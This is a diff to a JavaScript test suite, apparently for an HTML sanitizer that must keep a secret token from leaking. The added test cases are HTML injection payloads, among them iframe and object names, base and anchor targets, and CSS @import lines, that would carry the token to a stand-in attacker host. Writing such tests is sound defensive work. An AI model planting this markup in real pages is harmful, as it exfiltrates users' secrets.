@@ -83,6 +83,12 @@ describe('stays a token', () => {
     `<img src=a?src= src='/\\evil.example/?>${token}'>`,
     `<img t="x src=a src="src=/\\evil.example/?"${token}>`,
     `<img src=x?src='y'${token}>`,
+    // What a frame and a window tell the page in them.
+    `<iframe name='x ${token}' src=https://evil.example></iframe>`,
+    `<iframe csp="${token}" src=https://evil.example></iframe>`,
+    `<object name=${token} data=https://evil.example></object>`,
+    `<base target='\n${token}'><a href=https://evil.example>`,
+    `<a target="${token}" href=https://evil.example>`,
     // Style sheets.
     `<style>@import 'https://evil.example/?q="${token}'</style>`,
     `<STYLE title="x">b{background:url( 'https://evil.example/?q= ${token}')}</STYLE>`,
@@ -179,6 +185,8 @@ describe('is restored', () => {
     `<b>${token}</b>`,
     `<b title="a<b">${token}</b>`,
     `<input value="${token}">`,
+    `<meta-x name="${token}">`,
+    `<input name="to" target="${token}">`,
     `<a href="mailto:${token}">${token}</a>`,
     `<a href="https://x.example">${token}</a>`,
     `<mailto:${token}>`,
